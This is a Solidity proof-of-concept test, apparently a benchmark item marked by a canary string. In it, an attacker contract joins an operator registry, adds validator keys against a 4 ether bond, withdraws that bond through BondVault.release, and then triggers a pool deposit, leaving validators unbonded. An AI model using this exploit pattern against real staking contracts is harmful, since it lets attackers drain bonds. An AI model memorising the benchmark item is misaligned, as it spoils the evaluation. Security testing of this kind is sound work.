// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    constructor() payable {}

    function run(OperatorRegistry registry, BondVault bonds, StakePool pool, bytes[] calldata keys, bytes[] calldata signatures)
        external
    {
        uint256 operator = registry.join("Quick nodes");
        registry.addKeys{value: 4 ether}(operator, keys, signatures);
        try bonds.release(operator, 4 ether, payable(address(this))) {} catch {}
        pool.depositBuffered(1);
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 4 ether}();
    }

    function exploit() public {
        (bytes[] memory keys, bytes[] memory signatures) = _keys(31, 1);
        other.run(registry, bonds, pool, keys, signatures);
    }

    function test_Exploit() public {
        exploit();
        require(!bonded(), "every validator has a bond");
    }

    /// Whether each operator has left the bond for its running validators, as far as it was not fined.
    function bonded() public view returns (bool) {
        for (uint256 i = 0; i < registry.operatorCount(); i++) {
            if (bonds.bondOf(i) + 1 ether < registry.runningOf(i) * registry.BOND()) return false;
        }
        return true;
    }

    function target() public view override returns (address) {
        return address(registry);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
